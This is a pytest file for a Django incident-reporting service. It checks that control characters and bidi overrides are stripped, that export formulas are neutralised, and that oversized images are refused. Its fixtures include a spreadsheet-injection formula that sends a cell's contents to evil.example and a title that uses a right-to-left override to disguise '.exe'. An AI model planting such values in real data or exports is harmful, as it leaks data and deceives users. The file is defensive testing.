"""Hostile input: control characters and bidi overrides, formulas, decompression work. No 500, no poisoned export."""

from __future__ import annotations

import csv
import io
import json
import time

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook
from PIL import Image

from governance.core.errors import InvalidInput
from incidents import services
from incidents.attachments import PHOTO_MAX_EDGE, clean_images
from incidents.models import Attachment, Event, Incident
from tests.dashboards.conftest import world  # noqa: F401  (the incident world)
from tests.dashboards.helpers import body_of, client_for
from tests.factories import point
from tests.governance.test_api_contract import token_client

DIRTY_TITLE = "路面\x01塌\x07陷\u202etxt.exe\u2066"  # no NUL: PostgreSQL stores none
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_control_characters_and_bidi_overrides_are_cleaned_at_the_input(people, road):
    lat, lng = point(1, 2)
    response = token_client(people.worker_g1111).post("/api/v1/incidents/", json.dumps({
        "category": road.pk, "title": "路面\x07塌陷\u202e", "description": "第一行\r\n第二行\x1b[31m\u202d",
        "lat": lat, "lng": lng}), content_type="application/json")
    assert response.status_code == 201
    incident = Incident.objects.get()
    assert incident.title == "路面塌陷"
    assert incident.description == "第一行\n第二行[31m"


def test_a_title_of_nothing_but_control_characters_is_refused(people, road):
    lat, lng = point(1, 2)
    with pytest.raises(InvalidInput):
        services.incident_file(reporter=people.worker_g1111, category=road, title="\x00\x01\u202e", lat=lat, lng=lng)
    assert not Incident.objects.exists()


def test_notes_are_cleaned_too(people, file_incident):
    incident = file_incident()
    services.incident_return(incident=incident, actor=people.s11_command, note="不属实\x08\u202e，请核实")
    assert Event.objects.get(incident=incident, action="return").note == "不属实，请核实"


@pytest.fixture
def poisoned(request):
    """Rows stored before the input was cleaned: control characters and a formula in the titles."""
    incidents = request.getfixturevalue("world")
    Incident.objects.filter(pk=incidents.reported.pk).update(title=DIRTY_TITLE, description="a\x0bb\x1fc")
    Incident.objects.filter(pk=incidents.dispatched.pk).update(title=FORMULA, address="+86 754 1234\t-5")
    return incidents


def test_an_xlsx_export_of_stored_control_characters_and_formulas_works(poisoned, people):
    response = client_for(people.d1_command).post("/dashboards/map/export/", {
        "format": "xlsx", "columns": ["number", "title", "address", "description"]})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(body_of(response))).active
    cells = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    dirty = cells[poisoned.reported.number]
    assert dirty[1].value == "路面塌陷txt.exe" and dirty[3].value == "abc"
    formula = cells[poisoned.dispatched.number]
    assert formula[1].value == FORMULA and formula[1].data_type == "s", "a formula is written as text"
    assert formula[2].data_type == "s"


def test_a_csv_export_neutralises_formulas(poisoned, people):
    response = client_for(people.d1_command).post("/dashboards/map/export/", {
        "format": "csv", "columns": ["number", "title", "address"]})
    rows = {r[0]: r for r in csv.reader(io.StringIO(body_of(response).decode("utf-8-sig")))}
    assert rows[poisoned.dispatched.number][1] == "'" + FORMULA
    assert rows[poisoned.dispatched.number][2].startswith("'+86")
    assert rows[poisoned.reported.number][1] == "路面塌陷txt.exe"


def png_bytes(width: int, height: int) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), (20, 120, 40)).save(out, "PNG")
    return out.getvalue()


def test_nine_forty_megapixel_pngs_are_refused_before_any_is_decoded(people, road, monkeypatch):
    big = png_bytes(8000, 5000)  # 40 MP, ~100 KB: the whole request is about 1 MB
    photos = [SimpleUploadedFile(f"p{i}.png", big, content_type="image/png") for i in range(9)]
    decoded = []
    original_load = Image.Image.load

    def counting_load(self):
        decoded.append(self.size)
        return original_load(self)

    monkeypatch.setattr(Image.Image, "load", counting_load)
    started = time.monotonic()
    lat, lng = point(1, 2)
    with pytest.raises(InvalidInput) as caught:
        services.incident_file(reporter=people.worker_g1111, category=road, title="大图", lat=lat, lng=lng,
                               photos=photos)
    assert caught.value.code == "photos_too_large"
    assert not [size for size in decoded if size == (8000, 5000)], "no full decode happened"
    assert time.monotonic() - started < 60  # not a timing claim: a guard against the test hanging
    assert not Incident.objects.exists() and not Attachment.objects.exists()


def test_a_large_jpeg_is_decoded_at_a_reduced_scale_and_stored_downscaled():
    out = io.BytesIO()
    Image.new("RGB", (6000, 4000), (200, 30, 30)).save(out, "JPEG", quality=70)
    cleaned = clean_images([SimpleUploadedFile("big.jpg", out.getvalue(), content_type="image/jpeg")])[0]
    assert max(cleaned.width, cleaned.height) == PHOTO_MAX_EDGE
    with Image.open(io.BytesIO(cleaned.content)) as stored:
        assert stored.size == (cleaned.width, cleaned.height) and stored.format == "JPEG"


def test_the_request_budget_is_said_in_the_api_docs():
    from pathlib import Path

    from django.conf import settings

    docs = (Path(settings.BASE_DIR) / "docs" / "api.md").read_text("utf-8")
    assert "INCIDENT_PHOTOS_MAX_DECODED_PIXELS" in docs and "photos_too_large" in docs
